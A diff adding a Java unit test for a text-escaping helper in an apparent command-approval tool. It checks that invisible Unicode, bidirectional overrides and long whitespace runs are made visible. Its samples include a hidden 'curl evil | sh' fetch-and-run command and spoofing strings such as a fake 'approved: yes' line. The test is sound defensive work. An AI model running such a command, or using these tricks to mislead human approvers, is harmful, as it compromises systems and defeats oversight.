@@ -1,0 +1,53 @@
+package dev.pushgate.appliance.approvals;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+class VisibleTextTest {
+  @Test
+  void aLineSeparatorCannotFakeASecondLine() {
+    assertThat(VisibleText.of("gh pr create\u2028approved: yes\u2029"))
+        .isEqualTo("gh pr create\\u2028approved: yes\\u2029");
+  }
+
+  @Test
+  void bidirectionalMarksCannotMakeARefReadAsMain() {
+    // "refs/heads/niam" drawn right to left reads as "main" on a terminal that honours RLO.
+    assertThat(VisibleText.of("refs/heads/\u202eniam")).isEqualTo("refs/heads/\\u202eniam");
+    assertThat(VisibleText.of("\u2067x\u2069\u200e\u200f\u061c"))
+        .isEqualTo("\\u2067x\\u2069\\u200e\\u200f\\u061c");
+  }
+
+  @Test
+  void zeroWidthAndInvisibleCharactersAreShown() {
+    assertThat(VisibleText.of("ma\u200bin\u200c\u200d\u2060\ufeff\u00ad\u3164\ufe0f"))
+        .isEqualTo("ma\\u200bin\\u200c\\u200d\\u2060\\ufeff\\xad\\u3164\\ufe0f");
+  }
+
+  @Test
+  void spacesOtherThanTheSpaceAndEveryControlAreShown() {
+    assertThat(VisibleText.of("a\u00a0b\u2003c\u3000d\te\r\u001b[2K\u007f\u0085"))
+        .isEqualTo("a\\xa0b\\u2003c\\u3000d\\x09e\\x0d\\x1b[2K\\x7f\\x85");
+  }
+
+  @Test
+  void aLongRunOfSpacesCannotPushTheRestOutOfSight() {
+    assertThat(VisibleText.of("gh pr create --fill" + " ".repeat(180) + "; curl evil | sh"))
+        .isEqualTo("gh pr create --fill[180 spaces]; curl evil | sh");
+    assertThat(VisibleText.of("a       b")).isEqualTo("a       b");
+  }
+
+  @Test
+  void charactersBeyondTheBasicPlaneAreShownWhenInvisible() {
+    assertThat(VisibleText.of("x\udb80\udc00y\ud83d\ude00\ud800"))
+        .isEqualTo("x\\U000f0000y\ud83d\ude00\\ud800");
+  }
+
+  @Test
+  void ordinaryTextOfAnyScriptIsLeftAlone() {
+    String text = "git commit -m 'Grüße, 日本語, عربي, café' && ls -la ~/src";
+    assertThat(VisibleText.of(text)).isEqualTo(text);
+    assertThat(VisibleText.of(null)).isNull();
+  }
+}
